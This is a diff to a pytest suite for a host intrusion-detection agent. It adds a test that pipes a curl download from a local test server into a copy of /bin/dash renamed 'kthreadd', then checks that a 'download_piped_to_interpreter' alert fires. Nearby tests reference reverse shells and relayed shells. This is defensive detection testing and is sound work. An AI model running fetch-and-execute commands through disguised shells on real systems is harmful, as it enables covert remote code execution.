@@ -25,9 +25,9 @@ sys.path.insert(0, str(Path(__file__).resolve().parents[1]))
 from conftest import AgentProcess
 
 from tests.host.attack_lab import ATTACKER, Procs, alerts_of, first_seen, need, wait_port
-from tests.host.test_attacks_e2e import agent
+from tests.host.test_attacks_e2e import agent, web
 
-__all__ = ["agent"]  # the module-scoped daemon fixture, re-used
+__all__ = ["agent", "web"]  # the module-scoped daemon and the namespace web server, re-used
 
 pytestmark = pytest.mark.skipif(os.geteuid() != 0, reason="needs root (namespaces, audit)")
 
@@ -100,6 +100,20 @@ def test_renamed_shell_behind_a_pty_relay(agent: AgentProcess, netns: str, procs
     agent.wait_for(lambda: any(a["vedette"]["group"].get("process.parent.pid") == victim.pid
                                for a in alerts_of(agent, "shell_socket_relay", t0)),
                    15, "shell_socket_relay for the renamed shell")
+
+
+def test_curl_piped_into_a_renamed_shell(agent: AgentProcess, netns: str,
+                                         web: tuple[str, Path], procs: Procs,
+                                         system_dir: Path) -> None:
+    need("curl")
+    base, root = web
+    (root / "x.sh").write_text("echo pwned >/dev/null\n")
+    copy = system_dir / "kthreadd"
+    shutil.copy("/bin/dash", copy)
+    t0 = time.time()
+    run = procs.spawn("sh", "-c", f"curl -s {base}/x.sh | {copy}", ns=netns)
+    assert run.wait(20) == 0
+    _wait_mention(agent, "download_piped_to_interpreter", t0, str(copy))
 
 
 def test_perl_reverse_shell(agent: AgentProcess, netns: str, procs: Procs) -> None:
